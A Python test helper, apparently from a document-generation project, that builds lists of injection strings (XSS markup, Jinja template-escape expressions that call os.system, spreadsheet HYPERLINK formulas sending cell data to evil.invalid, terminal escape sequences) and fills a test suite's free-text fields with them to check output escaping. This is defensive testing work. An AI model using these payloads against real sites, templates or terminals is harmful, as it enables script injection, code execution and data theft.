"""Texts that bite where an output lets them: markup, template tags, formulas, control sequences of terminals."""

from __future__ import annotations

import json
from collections.abc import Iterator

from gampgen.domain.suite import OQTestSuite

_MARK = "document.title='pwned'"
_VECTORS = (
    f"<script>{_MARK}</script>",
    f"<ScRiPt >{_MARK}</sCrIpT>",
    f"<script/x>{_MARK}</script>",
    f"<script\n>{_MARK}</script\n>",
    "<script src=http://evil.invalid/x.js></script>",
    f"<scr<script>ipt>{_MARK}</scr</script>ipt>",
    f"<img src=x onerror={_MARK}>",
    f'<img src="http://evil.invalid/pixel" onload="{_MARK}">',
    f"<svg onload={_MARK}>",
    f"<svg/onload={_MARK}>",
    f"<svg><script>{_MARK}</script></svg>",
    f"<svg><animate onbegin={_MARK} attributeName=x dur=1s>",
    f"<body onload={_MARK}>",
    f"<details open ontoggle={_MARK}>x</details>",
    f"<input autofocus onfocus={_MARK}>",
    f"<video><source onerror={_MARK}></video>",
    f"<marquee onstart={_MARK}>x</marquee>",
    f'<a href="javascript:{_MARK}">x</a>',
    f'<a href="&#106;avascript:{_MARK}">x</a>',
    f"<a href='java\tscript:{_MARK}'>x</a>",
    f'<iframe src="javascript:{_MARK}"></iframe>',
    f'<iframe srcdoc="<script>parent.{_MARK}</script>"></iframe>',
    "<iframe src=http://evil.invalid/></iframe>",
    f'<object data="data:text/html,<script>parent.{_MARK}</script>"></object>',
    "<embed src=http://evil.invalid/x.swf>",
    "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "<style>@import 'http://evil.invalid/x.css';*{background:url(http://evil.invalid/y)}</style>",
    '<meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
    '<base href="http://evil.invalid/">',
    f'<form action="http://evil.invalid/"><button formaction="javascript:{_MARK}">x</button></form>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{_MARK}">',
    f"<template><script>{_MARK}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={_MARK}>">',
    f"<!--><img src=x onerror={_MARK}>-->",
)  # fmt: skip
XSS = tuple(
    vector
    for one in _VECTORS
    for vector in (one, f"\"'> {one}", f"--></title></style></textarea></script> {one}")
)[:100]  # fmt: skip
_REACH = (
    "''.__class__", "().__class__.__bases__[0].__subclasses__()", "cover.__class__.__mro__[1]",
    "cover.__init__.__globals__", "cover.system.__class__.__base__", "[].__class__.__base__.__subclasses__()[40]",
    "self.__init__.__globals__", "self._TemplateReference__context", "self.__class__", "config", "request.application",
    "lipsum.__globals__['os'].popen('touch pwned').read()", "cycler.__init__.__globals__.os.system('touch pwned')",
    "joiner.__init__.__globals__.os.system('touch pwned')", "namespace.__init__.__globals__.os.system('touch pwned')",
    "url_for.__globals__", "get_flashed_messages.__globals__", "range.__self__", "range.__call__.__self__",
    "cover | attr('__class__')", "cover | map(attribute='__class__') | list", "''|attr('\\x5f\\x5fclass\\x5f\\x5f')",
    "cover['__class__']", "cover['__cl' ~ 'ass__']", "cover.get.__func__", "cover.items.__self__.__class__",
    "scripts.append(1)", "scripts.clear()", "cover.update({'system': 'x'})", "cover.pop('system')",
    "scripts.__getitem__.__self__", "'{0.__class__}'.format(cover)", "'%s' % cover.__class__",
    "'{0.__init__.__globals__}'.format(cover)", "cover.system.format_map({})", "'a'.join(cover)",
    "'a' * 10 ** 9", "10 ** 10 ** 8", "'a'.ljust(10 ** 9)", "'a'.center(999999999)", "range(10 ** 9) | list",
    "cover.system | center(10 ** 9)", "cover.system | wordwrap(1)", "cover.system | format(1)", "cover | tojson",
    "cover | pprint", "cover.system | safe", "cover.system | xmlattr", "dict(a=1).__class__", "dict",
    "(1).__class__.__mro__", "1.0.__class__", "true.__class__.__base__", "none.__class__", "''.encode().decode",
    "caller()", "varargs", "kwargs", "loop", "super()",
)  # fmt: skip
TEMPLATE = tuple(f"{{{{ {one} }}}}" for one in _REACH)
SPREADSHEET = tuple(
    prefix + 'HYPERLINK("http://evil.invalid/?"&A1,"x")'
    for prefix in ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "=+", "＝", "|", "%", ";=")
)
TERMINAL = tuple(
    f"\x1b{tail}pwned"
    for tail in (
        "[31m", "[2J", "[H", "[1A", "[999D", "[K", "[?25l", "[?1049h", "[8m", "[5m", "[6n", "[c", "[>c", "[21t", "[20t",
        "]0;title\x07", "]2;title\x1b\\", "]8;;http://evil.invalid\x07x\x1b]8;;\x07", "]52;c;cHduZWQ=\x07",
        "]4;1;?\x07", "]10;?\x07", "]777;notify;a;b\x07", "]1337;File=:AA==\x07", "P+q544e\x1b\\", "_G\x1b\\",
        "^x\x1b\\", "X\x1b\\", "c", "7", "8", "D", "M", "E", "=", ">", "(0", "#8", "%G",
    )
) + tuple(
    f"{before}pwned"
    for before in ("\x9b31m", "\x9d0;t\x9c", "\x90q\x9c", "\x08\x08\x08", "\r", "\x07", "\x0c", "\x0b", "\x7f",
                   "\u202e", "\u2066", "\u200b")
)  # fmt: skip
_FREE = frozenset({
    "text", "items", "section", "title", "objective", "preconditions", "value", "unit", "action", "expected_result",
    "evidence", "acceptance_criterion", "acceptance_criteria", "rationale", "reason", "message", "hint", "quote",
    "meaning", "indicator", "operator", "description", "source_title", "clause", "version", "outcome", "document",
    "stated_priority", "severity_reason", "probability_reason", "detectability_reason", "system", "file_name", "by",
    "requirement_id",
})  # fmt: skip
_NAMED = frozenset({"inputs", "terms", "roles", "components"})


def poisoned(suite: OQTestSuite, texts: tuple[str, ...]) -> OQTestSuite:
    """The suite with every free text replaced by one of the texts in turn, the uids by texts with a number."""
    record = json.loads(suite.model_dump_json())
    uids = {
        one["uid"]: f"{texts[number % len(texts)]} {number}" for number, one in enumerate(record["requirements"])
    }  # fmt: skip
    supply = _turns(texts)
    return OQTestSuite.model_validate_json(json.dumps(_changed(record, "", "", uids, supply)))


def _turns(texts: tuple[str, ...]) -> Iterator[str]:
    while True:
        yield from texts


def _changed(value: object, key: str, above: str, uids: dict[str, str], supply: Iterator[str]) -> object:
    if isinstance(value, dict):
        return {name: _changed(part, name, key, uids, supply) for name, part in value.items()}
    if isinstance(value, list):
        return [_changed(part, key, above, uids, supply) for part in value]
    if not isinstance(value, str):
        return value
    if value in uids:
        return uids[value]
    free = key in _FREE or (key == "name" and above in _NAMED) or (key == "id" and above == "requirements")
    return next(supply) if free else value
